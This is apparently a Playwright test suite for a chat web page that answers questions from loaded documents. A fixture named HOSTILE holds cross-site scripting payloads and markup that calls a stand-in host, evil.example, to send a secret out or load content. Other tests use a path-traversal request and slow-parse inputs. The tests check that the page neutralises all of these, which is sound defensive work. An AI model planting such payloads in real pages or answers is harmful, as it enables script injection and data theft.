"""The chat page, in a real browser."""

import asyncio
import re
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Browser, BrowserContext, expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import StreamingResponse
from starlette.routing import Mount, Route

from orbit_server.app import create_app
from orbit_server.auth import Limits
from orbit_server.auth.keys import Keys
from orbit_server.errors import ConfigError
from orbit_server.services import Services
from orbit_server.web import page_routes

from ..support.browser import needs_chromium
from ..support.chat_page import answer, ask, opened
from ..support.chat_server import QUESTION, ChatServer, town
from ..support.ollama_standin import Abort, NotPulled
from ..support.server import lexical, running, serving

STATIC = Path(__file__).parents[2] / "orbit_server" / "web" / "static"
pytestmark = [pytest.mark.anyio, pytest.mark.process, needs_chromium]


async def test_asks_and_shows_the_answer_with_its_sources(
    context: BrowserContext, chat: ChatServer
) -> None:
    """The question goes to /chat; the answer is formatted, its sources unfold and hold excerpts."""
    page = await opened(context, chat)
    assert chat.headers["X-API-Key"] not in page.url
    await ask(page)
    await expect(answer(page)).to_have_text("It opens at nine [1].")
    await expect(answer(page).locator("strong")).to_have_text("nine")
    sources = page.locator("details")
    await expect(sources.locator("li").first).to_be_hidden()
    await answer(page).get_by_role("button", name="[1]").click()
    await expect(sources.locator("li").first).to_be_focused()
    await expect(sources.locator(".excerpt").first).to_have_text("The library opens at nine.")
    await expect(page.get_by_label("Your question")).to_have_value("")


async def test_follow_up_brings_the_conversation(context: BrowserContext, chat: ChatServer) -> None:
    """What was asked and answered goes along as history; a new chat begins without it."""
    page = await opened(context, chat)
    await ask(page)
    await expect(answer(page)).to_contain_text("nine")
    async with page.expect_request("**/chat") as sent:
        await ask(page, "And on Sundays?")
    body = (await sent.value).post_data_json
    assert body is not None
    assert body["history"] == [
        {"role": "user", "content": QUESTION},
        {"role": "assistant", "content": "It opens at **nine** [1]."},
    ]
    await expect(page.locator(".turn")).to_have_count(4)
    await page.get_by_role("button", name="New chat").click()
    await expect(page.locator(".turn")).to_have_count(0)
    async with page.expect_request("**/chat") as sent:
        await ask(page)
    body = (await sent.value).post_data_json
    assert body is not None
    assert body["history"] == []


async def test_a_reload_keeps_conversation_and_key(
    context: BrowserContext, chat: ChatServer
) -> None:
    """Reloading, and leaving and coming back, lose nothing; another tab knows nothing."""
    page = await opened(context, chat)
    await ask(page)
    await expect(answer(page)).to_contain_text("nine")
    await page.reload()
    await expect(answer(page)).to_contain_text("nine")
    await page.goto("about:blank")
    await page.go_back()
    await expect(answer(page)).to_contain_text("nine")
    await ask(page, "When does the library close?")
    await expect(page.locator(".turn.assistant")).to_have_count(2)
    other = await context.new_page()
    await other.goto(chat.server.url)
    await expect(other.get_by_label("API key")).to_be_visible()
    await expect(other.locator(".turn")).to_have_count(0)


async def test_asks_for_the_key_once(context: BrowserContext, chat: ChatServer) -> None:
    """Without a key it asks for one; a wrong one is said to be wrong and asked for again."""
    page = await context.new_page()
    await page.goto(chat.server.url)
    await expect(page.get_by_label("API key")).to_be_focused()
    await expect(page.get_by_label("Your question")).to_be_hidden()
    await page.keyboard.type("orbit_wrong")
    await page.keyboard.press("Enter")
    await ask(page)
    await expect(page.get_by_role("alert")).to_contain_text("This API key is not valid")
    await page.get_by_label("API key").fill(chat.headers["X-API-Key"])
    await page.get_by_role("button", name="Open").click()
    await expect(page.get_by_label("Your question")).to_have_value(QUESTION)
    await page.get_by_role("button", name="Send").click()
    await expect(answer(page)).to_contain_text("nine")


async def test_a_link_that_is_broken_is_a_wrong_key(
    context: BrowserContext, chat: ChatServer
) -> None:
    """Half an escape, or letters that no header can carry: the reader is told which part it is."""
    for broken in ("%", "%E2%82%AC", "api_%00"):
        page = await context.new_page()
        await page.goto(f"{chat.server.url}/#key={broken}")
        await ask(page)
        await expect(page.get_by_role("alert")).to_contain_text("This API key is not valid")
        await expect(page.get_by_label("API key")).to_be_visible()


async def test_a_link_for_a_page_that_is_open(context: BrowserContext, chat: ChatServer) -> None:
    """The new key is taken and leaves the address; what was said with the old one is forgotten."""
    page = await opened(context, chat)
    await ask(page)
    await expect(page.locator(".turn")).to_have_count(2)
    key = (await chat.server.key("town"))["X-API-Key"]
    await page.goto(f"{chat.server.url}/#key={key}")
    await expect(page.locator(".turn")).to_have_count(0)
    assert key not in page.url
    async with page.expect_request("**/chat") as sent:
        await ask(page)
    assert (await sent.value).headers["x-api-key"] == key


async def test_servers_below_one_address_know_nothing_of_each_other(
    context: BrowserContext, tmp_path: Path
) -> None:
    """One for everybody and one for the staff: what is kept of one is not sent to the other."""
    async with running(lexical(tmp_path)) as server:
        await server.pairs("town", {QUESTION: "At nine."})
        key = (await server.key("town"))["X-API-Key"]
        chat = create_app(services=server.services)
        app = Starlette(routes=[Mount("/staff", app=chat), Mount("/public", app=chat)])
        async with serving(app) as url:
            page = await context.new_page()
            await page.goto(f"{url}/staff#key={key}")
            await ask(page)
            await expect(answer(page)).to_contain_text("At nine.")
            await page.goto(f"{url}/public")
            await expect(page.get_by_label("API key")).to_be_visible()
            await expect(page.locator(".turn")).to_have_count(0)
            await page.goto(f"{url}/staff")
            await expect(answer(page)).to_contain_text("At nine.")


async def test_needs_no_key_where_none_is_needed(
    browser: Browser, context: BrowserContext, tmp_path: Path
) -> None:
    """With a default collection the question field is there at once."""
    config = lexical(tmp_path, api_keys__allow_default=True, chroma__collection="town")
    async with running(config) as server:
        await server.pairs("town", {QUESTION: "At nine."})
        page = await context.new_page()
        await page.goto(server.url)
        await ask(page)
        await expect(answer(page)).to_contain_text("At nine.")
        await expect(page.get_by_role("button", name="Change key")).to_be_hidden()


async def test_keyboard_alone_is_enough(context: BrowserContext, chat: ChatServer) -> None:
    """Enter sends, Shift+Enter breaks the line, Escape stops, focus stays in the question."""
    page = await opened(context, chat)
    question = page.get_by_label("Your question")
    await expect(question).to_be_focused()
    await page.keyboard.type("When does the")
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.type("library open?")
    await page.keyboard.press("Enter")
    await expect(answer(page)).to_contain_text("nine")
    await expect(question).to_be_focused()
    chat.ollama.reply = lambda body: ["It ", "opens "] * 500 if body["stream"] else QUESTION
    chat.ollama.piece_delay = 0.05
    await page.keyboard.type("And now?")
    await page.keyboard.press("Enter")
    await expect(answer(page)).to_contain_text("opens")
    await page.keyboard.press("Escape")
    await expect(page.get_by_role("alert")).to_contain_text("Stopped.")
    await expect(page.get_by_role("button", name="Send")).to_be_visible()
    await chat.settled()


HOSTILE = """
<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
![pixel](https://evil.example/pixel.png?q=secret) ![](javascript:window.hacked=3)
[click](javascript:window.hacked=4) [data](data:text/html,<script>window.hacked=5</script>)
[vb](vbscript:x) <https://evil.example/auto> <a href="javascript:window.hacked=6">x</a>
<style>@import "https://evil.example/a.css"</style><link rel=prefetch href=https://evil.example/b>
<iframe src="https://evil.example/c"></iframe><svg onload="window.hacked = 7"></svg>
<form action="https://evil.example/d"><input name=a autofocus onfocus="window.hacked = 8"></form>
[good](https://good.example/page "title") and https://good.example/bare.

| a | b |
|---|---|
| <b onclick="window.hacked = 9">x</b> | ![](https://evil.example/e.png) |

```html
<script>window.hacked = 10</script>
```
"""


async def test_hostile_answers_run_nothing_and_fetch_nothing(
    context: BrowserContext, chat: ChatServer
) -> None:
    """Markup in an answer, a question or a source is text; nothing asks another server."""
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    await chat.server.pairs("town", {"hostile <img src=x onerror=hacked=1>?": HOSTILE}, "<b>x</b>")
    chat.ollama.reply = HOSTILE
    page = await opened(context, chat)
    await ask(page, "hostile <img src=x onerror=window.hacked=11>?")
    await expect(answer(page)).to_contain_text("https://good.example/bare")
    await expect(page.locator("details")).to_have_count(1)
    await page.locator("summary").click()
    assert await page.evaluate("window.hacked") is None
    assert all(url.startswith(chat.server.url) for url in asked), asked
    foreign = page.locator("ol.log").locator("img, script, style, link, iframe, input")
    await expect(foreign).to_have_count(0)
    # Beside the words and the sources stand the buttons of the page itself.
    await expect(page.locator("ol.log :is(.words, details) :is(svg, form)")).to_have_count(0)
    links = (
        await answer(page)
        .locator("a")
        .evaluate_all("links => links.map(link => [link.href, link.target, link.rel])")
    )
    assert {link[0].split("/")[2] for link in links} <= {"good.example", "evil.example"}
    assert ["https://good.example/page", "_blank", "noopener noreferrer"] in links
    assert all(link[1:] == ["_blank", "noopener noreferrer"] for link in links)


async def test_markdown(context: BrowserContext, chat: ChatServer) -> None:
    """Lists, tables, code, quotes and emphasis become elements; the rest stays as written."""
    chat.ollama.reply = (
        "# Hours\n\n1. Mon\n2. Tue\n   - am\n   - pm\n\n* a *b* `c*d*`\n\n"
        "| d | h |\n|---|---|\n| M | 9 |\n\n"
        "> said\n\n```\n x = 1 < 2\n```\n2 * 3 * 4 = 24 and a_b_c"
    )
    page = await opened(context, chat)
    await ask(page)
    await expect(answer(page)).to_contain_text("a_b_c")
    html = await answer(page).evaluate("words => words.innerHTML")
    for part in (
        "<p><strong>Hours</strong></p>",
        "<ol><li>Mon</li><li>Tue<ul><li>am</li><li>pm</li></ul></li></ol>",
        "<ul><li>a <em>b</em> <code>c*d*</code></li></ul>",
        "<th>d</th><th>h</th>",
        "<td>M</td><td>9</td>",
        "<blockquote><p>said</p></blockquote>",
        "<code> x = 1 &lt; 2</code>",
        "<p>2 * 3 * 4 = 24 and a_b_c</p>",
    ):
        assert part in html, html


async def test_a_long_answer_with_hostile_marks_stays_quick(
    context: BrowserContext, chat: ChatServer
) -> None:
    """Brackets, stars and backquotes without end cost no time that grows with their square."""
    chat.ollama.reply = ["[" * 20_000, "**" * 10_000, "`" * 20_000, "|-" * 9000, "\nend"]
    page = await opened(context, chat)
    await ask(page)
    await expect(answer(page)).to_contain_text("end")


@pytest.mark.parametrize(
    "hostile",
    [
        "[](" * 20_000,
        "[a](b" * 12_000,
        "a|\n|--" + " " * 60_000 + "x",
        "|" * 20_000 + "\n|--|\n" + "|\n" * 13_000,
        "- " + " " * 60_000 + "a\u2028b",
        "# a" + " " * 60_000 + "b",
    ],
    ids=["links", "links with a label", "rule of a table", "rows of a table", "item", "heading"],
)
async def test_no_text_costs_the_square_of_its_length(
    context: BrowserContext, chat: ChatServer, hostile: str
) -> None:
    """Sixty thousand characters that nearly match, or ask for a cell per row and column."""
    chat.ollama.reply = [hostile, "\n\nend"]
    page = await opened(context, chat)
    await ask(page)
    await expect(page.get_by_role("button", name="Copy")).to_be_visible()
    await expect(answer(page)).to_contain_text("end")


async def test_a_cut_answer_can_be_asked_again(context: BrowserContext, chat: ChatServer) -> None:
    """The part that came stays, the reader is told, and one click asks the same again."""
    page = await opened(context, chat)
    chat.ollama.reply = ["It ", "opens ", "at ", "nine."]
    chat.ollama.fault = [Abort(after=2)]
    await ask(page)
    await expect(page.get_by_role("alert")).to_contain_text("The answer was cut off.")
    await expect(answer(page)).to_contain_text("It opens")
    await page.get_by_role("button", name="Try again").click()
    await expect(answer(page)).to_have_text("It opens at nine.")
    await expect(page.locator(".turn")).to_have_count(2)
    await expect(page.get_by_role("alert")).to_be_empty()


async def test_a_server_that_dies_in_mid_answer(context: BrowserContext, chat: ChatServer) -> None:
    """Without a last event an answer is not taken for whole; an unreachable server is said."""
    page = await opened(context, chat)

    async def broken(route: Any) -> None:
        body = 'data: {"text": "It opens", "done": false}\n\n'
        await route.fulfill(status=200, content_type="text/event-stream", body=body)

    await page.route("**/chat", broken)
    await ask(page)
    await expect(page.get_by_role("alert")).to_contain_text("The answer was cut off.")
    await page.unroute("**/chat")
    await page.route("**/chat", lambda route: route.abort())
    await ask(page)
    await expect(page.get_by_role("alert")).to_contain_text("The server cannot be reached.")
    await expect(page.get_by_label("Your question")).to_have_value(QUESTION)


async def test_a_failure_leaves_the_next_question_alone(
    context: BrowserContext, chat: ChatServer
) -> None:
    """What the reader has begun to type meanwhile is not replaced by what failed."""
    page = await opened(context, chat)
    held: list[Any] = []
    await page.route("**/chat", lambda route: held.append(route))
    async with page.expect_request("**/chat"):
        await ask(page)
    await page.get_by_label("Your question").fill("And on Sundays?")
    await held[0].abort()
    await expect(page.get_by_role("alert")).to_contain_text("The server cannot be reached.")
    await expect(page.get_by_label("Your question")).to_have_value("And on Sundays?")


async def test_a_conversation_fits_into_a_request(
    browser: Browser, context: BrowserContext, tmp_path: Path
) -> None:
    """Its bytes count, not its characters: earlier turns stay away where there is no room."""
    async with town(tmp_path, chat__max_message_chars=20_000) as chat:
        chat.ollama.reply = lambda body: "図" * 9000 if body["stream"] else QUESTION
        page = await opened(context, chat)
        await ask(page)
        await expect(page.get_by_role("button", name="Copy")).to_have_count(1)
        async with page.expect_response("**/chat") as received:
            await ask(page, QUESTION + "館" * 19_000)
        assert (await received.value).status == 200


@asynccontextmanager
async def scripted(
    tmp_path: Path, events: Callable[[], AsyncIterator[bytes]]
) -> AsyncIterator[str]:
    """Serve the page with a ``/chat`` that sends what ``events`` yields, as it is."""
    config = lexical(tmp_path, api_keys__allow_default=True, chroma__collection="town")

    async def chat(request: Request) -> StreamingResponse:
        return StreamingResponse(events(), media_type="text/event-stream")

    routes = [Route("/chat", chat, methods=["POST"]), *page_routes(config)]
    async with serving(Starlette(routes=routes)) as url:
        yield url


async def test_a_stream_in_pieces_of_one_byte(context: BrowserContext, tmp_path: Path) -> None:
    """Letters and events may be cut anywhere, and comments stand before and between them."""
    stream = (
        ": ping\n\n" + 'data: {"text": "Grüße 図", "done": false}\n\n: ping\n\n'
        'data: {"text": "書館", "done": false}\n\n: ping\n\ndata: {"text": "", "done": true}\n\n'
    ).encode()

    async def events() -> AsyncIterator[bytes]:
        for byte in stream:
            yield bytes([byte])
            await asyncio.sleep(0.001)

    async with scripted(tmp_path, events) as url:
        page = await context.new_page()
        await page.goto(url)
        await ask(page)
        await expect(page.get_by_role("button", name="Copy")).to_be_visible()
        await expect(answer(page)).to_have_text("Grüße 図書館")
        await expect(page.get_by_role("alert")).to_be_empty()


async def test_a_pause_hides_no_words(context: BrowserContext, tmp_path: Path) -> None:
    """A model that stops to think has said what it has said."""
    shown = asyncio.Event()

    async def events() -> AsyncIterator[bytes]:
        for _ in range(400):
            yield b'data: {"text": "word ", "done": false}\n\n'
            await asyncio.sleep(0.002)
        yield b'data: {"text": "pause", "done": false}\n\n'
        await shown.wait()
        yield b'data: {"text": "", "done": true}\n\n'

    async with scripted(tmp_path, events) as url:
        page = await context.new_page()
        await page.goto(url)
        await ask(page)
        await expect(answer(page)).to_contain_text("pause")
        shown.set()
        await expect(page.get_by_role("button", name="Copy")).to_be_visible()


async def test_a_stream_that_is_no_answer_is_left(context: BrowserContext, tmp_path: Path) -> None:
    """What nobody can read any more is not generated any longer."""
    left = asyncio.Event()

    async def events() -> AsyncIterator[bytes]:
        yield b'data: {"text": "It opens", "done": false}\n\ndata: {"text"\n\n'
        try:
            await asyncio.sleep(60)
        finally:
            left.set()

    async with scripted(tmp_path, events) as url:
        page = await context.new_page()
        await page.goto(url)
        await ask(page)
        await expect(page.get_by_role("alert")).to_contain_text("The answer was cut off.")
        async with asyncio.timeout(30):
            await left.wait()


async def test_errors_in_words(context: BrowserContext, chat: ChatServer) -> None:
    """A model that is not there, nothing loaded, and too long a question have their sentences."""
    page = await opened(context, chat)
    chat.ollama.fault = NotPulled()
    await ask(page)
    alert = page.get_by_role("alert")
    await expect(alert).to_contain_text("The language model is not available")
    await expect(alert).to_contain_text("If you run this server")
    await ask(page, "x" * 100_000)
    await expect(alert).to_contain_text("too long")
    empty = await chat.server.key("nothing-there")
    page = await context.new_page()
    await page.goto(f"{chat.server.url}/#key={empty['X-API-Key']}")
    await ask(page)
    await expect(page.get_by_role("alert")).to_contain_text("No documents have been loaded")
    await expect(page.get_by_role("alert")).to_contain_text("orbit ingest FOLDER")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [320, 1280])
async def test_accessible(
    browser: Browser, chat: ChatServer, scheme: Any, width: int, tmp_path: Path
) -> None:
    """axe-core finds nothing against WCAG 2.2 AA, in any state; nothing scrolls sideways."""
    context = await browser.new_context(
        color_scheme=scheme, viewport={"width": width, "height": 700}, reduced_motion="reduce"
    )
    page = await context.new_page()
    rules = {"runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]}
    chat.ollama.reply = (
        "It opens at **nine** [1].\n\n| day | hours |\n|---|---|\n| Mon | 9–17 |\n\n```\nx\n```"
    )
    for state in ("key", "empty", "answer", "rated", "notice"):
        if state == "key":
            await page.goto(chat.server.url)
            await expect(page.get_by_label("API key")).to_be_visible()
        elif state == "empty":
            await page.goto("about:blank")
            await page.goto(f"{chat.server.url}/#key={chat.headers['X-API-Key']}")
            await expect(page.get_by_label("Your question")).to_be_visible()
        elif state == "answer":
            await ask(page)
            await expect(page.locator("summary")).to_be_visible()
            await page.locator("summary").click()
        elif state == "rated":
            await page.get_by_role("button", name="Bad answer").click()
            await expect(page.get_by_label("What was wrong?")).to_be_focused()
        else:
            await ask(page, "x" * 100_000)
            await expect(page.get_by_role("alert")).not_to_be_empty()
        await page.screenshot(path=str(tmp_path / f"{scheme}-{width}-{state}.png"))
        found = await Axe().run(page, options=rules)
        assert found.violations_count == 0, found.generate_report()
        sideways = "document.documentElement.scrollWidth > document.documentElement.clientWidth"
        assert not await page.evaluate(sideways)
    await context.close()


async def test_open_sources_use_the_whole_width(browser: Browser, chat: ChatServer) -> None:
    """On a phone too, the buttons stay in one row beside the summary, and the list is below all."""
    context = await browser.new_context(viewport={"width": 320, "height": 700})
    page = await opened(context, chat)
    await ask(page)
    await page.locator("summary").click()
    buttons = [
        await page.get_by_role("button", name=name, exact=True).bounding_box()
        for name in ("Copy", "Good answer", "Bad answer")
    ]
    row = await page.locator(".after").bounding_box()
    sources = await page.locator(".after details ol").bounding_box()
    assert row and sources
    for button in buttons:
        assert button and abs(button["y"] - row["y"]) < 1
        assert button["y"] + button["height"] <= sources["y"]
    assert abs(sources["width"] - row["width"]) < 1
    await context.close()


async def test_screen_readers_hear_whole_sentences(
    context: BrowserContext, chat: ChatServer
) -> None:
    """What is announced while an answer is written ends where sentences end."""
    chat.ollama.reply = ["The li", "brary opens. It clo", "ses at ei", "ght. Bring", " a card"]
    chat.ollama.piece_delay = 0.15
    page = await opened(context, chat)
    await page.evaluate(
        """() => {
            window.heard = [];
            const region = document.querySelector("[aria-live=polite]");
            const listen = () => heard.push(region.textContent);
            new MutationObserver(listen).observe(region, {childList: true});
        }"""
    )
    await ask(page)
    await expect(answer(page)).to_contain_text("a card")
    await expect(page.locator("details")).to_be_visible()
    heard = await page.evaluate("heard")
    assert heard[0] == "Answer is being written"
    assert "".join(heard[1:]) == "The library opens. It closes at eight. Bring a card"
    assert all(re.search(r"\.\s*$", part) for part in heard[1:-1]), heard


@pytest.mark.parametrize(
    ("locale", "send"),
    [("de-AT", "Senden"), ("fr-FR", "Envoyer"), ("es-MX", "Enviar"), ("ja-JP", "Send")],
)
async def test_speaks_the_language_of_the_reader(
    browser: Browser, chat: ChatServer, locale: str, send: str
) -> None:
    """The page's own words come in the reader's language where there is a table of it."""
    context = await browser.new_context(locale=locale)
    page = await opened(context, chat)
    await expect(page.get_by_role("button", name=send)).to_be_visible()
    assert await page.evaluate("document.documentElement.lang") == (
        locale[:2] if send != "Send" else "en"
    )
    await context.close()


async def test_right_to_left(context: BrowserContext, chat: ChatServer) -> None:
    """Arabic questions and answers run from right to left."""
    chat.ollama.reply = "تفتح المكتبة في التاسعة."
    page = await opened(context, chat)
    await ask(page, "متى تفتح المكتبة؟ When does the library open?")
    await expect(answer(page)).to_contain_text("المكتبة")
    assert await answer(page).evaluate("words => getComputedStyle(words).direction") == "rtl"


async def test_under_a_prefix(context: BrowserContext, tmp_path: Path) -> None:
    """Mounted in another application, the page finds its files and the server."""
    config = lexical(tmp_path)
    async with Services(config) as services:
        host = Starlette(routes=[Mount("/orbit", create_app(services=services))])
        async with serving(host) as url:
            _, secret = await services.keys.create("town", "test")
            page = await context.new_page()
            await page.goto(f"{url}/orbit/#key={secret}")
            await ask(page)
            await expect(page.get_by_role("alert")).to_contain_text("No documents")


async def test_settings(context: BrowserContext, tmp_path: Path) -> None:
    """Title, greeting, color, logo, links and examples come from the configuration, as text."""
    (tmp_path / "logo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'
    )
    config = lexical(
        tmp_path,
        web__title="Town </script><b>Hall</b>",
        web__greeting="Welcome to the **town**.",
        web__examples=["Who are you?"],
        web__color="#ffe08a",
        web__logo_file=str(tmp_path / "logo.svg"),
        web__links={"Imprint": "https://town.example/imprint?lang=de#top"},
        web__language="de",
        api_keys__allow_default=True,
        chroma__collection="town",
    )
    async with running(config) as server:
        await server.pairs("town", {"Who are you?": "The town."})
        page = await context.new_page()
        await page.goto(server.url)
        await expect(page.get_by_role("heading")).to_have_text("Town </script><b>Hall</b>")
        await expect(page.locator(".greeting strong")).to_have_text("town")
        await expect(page.get_by_role("link", name="Imprint")).to_have_attribute(
            "href", "https://town.example/imprint?lang=de#top"
        )
        button = page.get_by_role("button", name="Senden")
        assert await button.evaluate("it => getComputedStyle(it).color") == "rgb(0, 0, 0)"
        assert await page.locator("header img").evaluate("it => it.naturalWidth") == 9
        await page.get_by_role("button", name="Who are you?").click()
        await expect(page.locator(".turn.user")).to_contain_text("Who are you?")


async def test_headers_and_size(tmp_path: Path) -> None:
    """A strict policy on every file; names that follow from the content; no more than 60 KB."""
    async with running(lexical(tmp_path)) as server, aiohttp.ClientSession(server.url) as http:
        async with http.get("/") as response:
            page = await response.text()
        files = re.findall(r'"(/web/[^"]+)"', page)
        assert len(files) == 3
        for path in ("/", "/widget.js", *files):
            async with http.get(path, headers={"Accept-Encoding": "gzip"}) as response:
                assert response.status == 200
                policy = response.headers["Content-Security-Policy"]
                assert policy.startswith("default-src 'none'; ")
                assert "unsafe" not in policy
                assert response.headers["X-Content-Type-Options"] == "nosniff"
                assert response.headers["Referrer-Policy"] == "no-referrer"
                for_ever = "immutable" in response.headers["Cache-Control"]
                assert for_ever == path.startswith("/web/")
                assert ("Content-Encoding" in response.headers) == (path != "/")
        for path in ("/web/chat.js", "/web/..%2fpage.py", "/web/"):
            async with http.get(path) as response:
                assert response.status == 404
                assert await response.json() == {"detail": "Not Found", "code": "not_found"}
    assert sum(file.stat().st_size for file in STATIC.iterdir()) <= 60_000


async def test_can_be_switched_off(tmp_path: Path) -> None:
    """Without the page there is nothing at the root."""
    config = lexical(tmp_path, web__page=False)
    async with running(config) as server, aiohttp.ClientSession(server.url) as http:
        for path in ("/", "/widget.js", "/web/chat.js"):
            async with http.get(path) as response:
                assert response.status == 404


async def test_a_logo_that_cannot_be_used(tmp_path: Path) -> None:
    """A wrong kind of file, and one that is not there, are named with their key."""
    for name, cause in (("logo.exe", "must be an image file"), ("no.png", "cannot be read")):
        with pytest.raises(ConfigError, match=cause):
            page_routes(lexical(tmp_path, web__logo_file=str(tmp_path / name)))


def test_every_language_has_every_string() -> None:
    """The tables of strings have the same names."""
    script = (STATIC / "chat.js").read_text()
    tables = script[script.index("const STRINGS") : script.index("const RENDER_MS")]
    parts = re.split(r"^  (\w\w): \{$", tables, flags=re.MULTILINE)[1:]
    names = {
        lang: set(re.findall(r"(?:^|[,{]\s|\s{4})(\w+): \"", body))
        for lang, body in zip(parts[::2], parts[1::2], strict=True)
    }
    assert len(names) == 4
    assert len({frozenset(each) for each in names.values()}) == 1, names


async def page_key(folder: Path, **more: Any) -> str:
    """Make a key in the database of a server that is not running yet."""
    async with Keys(lexical(folder).database.url) as keys:
        return (await keys.create("town", "page", **more))[1]


async def test_visitors_need_no_key(tmp_path: Path, context: BrowserContext) -> None:
    """With ``web.page_key`` the page asks with that; the key's sites need not name the server."""
    secret = await page_key(
        tmp_path, origins=["https://town.example"], limits=Limits(visitor_per_minute=2)
    )
    async with running(lexical(tmp_path, web__page_key=secret)) as server:
        await server.pairs("town", {QUESTION: "At nine."})
        page = await context.new_page()
        await page.goto(server.url)
        await expect(page.get_by_label("API key")).to_be_hidden()
        await expect(page.get_by_role("button", name="Change key")).to_be_hidden()
        for _ in range(2):
            await ask(page)
            await expect(answer(page)).to_contain_text("At nine.")
            await page.get_by_role("button", name="New chat").click()
        await ask(page)
        await expect(page.get_by_role("alert")).to_contain_text("Too many questions")


async def test_a_visitors_own_key_wins(tmp_path: Path, context: BrowserContext) -> None:
    """A link may bring one; when it is wrong, the page's own is used again."""
    secret = await page_key(tmp_path)
    async with running(lexical(tmp_path, web__page_key=secret)) as server:
        await server.pairs("town", {QUESTION: "At nine."})
        await server.pairs("harbour", {QUESTION: "At ten."})
        own = (await server.key("harbour"))["X-API-Key"]
        page = await context.new_page()
        await page.goto(f"{server.url}/#key={own}")
        await ask(page)
        await expect(answer(page)).to_contain_text("At ten.")
        await page.goto(f"{server.url}/#key=wrong")
        await ask(page)
        await expect(page.get_by_role("alert")).to_contain_text("This API key is not valid")
        await ask(page)
        await expect(answer(page)).to_contain_text("At nine.")


async def test_the_pages_key_is_in_the_page_alone(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """No cache that others share keeps it, the widget has none, and the log warns without it."""
    for secret, warning in ((await page_key(tmp_path), "no limits"), ("api_gone", "not a usable")):
        caplog.clear()
        async with (
            running(lexical(tmp_path, web__page_key=secret)) as server,
            aiohttp.ClientSession() as http,
        ):
            async with http.get(server.url) as response:
                assert "private" in response.headers["Cache-Control"]
                assert secret in await response.text()
            async with http.get(server.url + "/widget.js") as response:
                assert secret not in await response.text()
        assert warning in caplog.text
        assert secret not in caplog.text
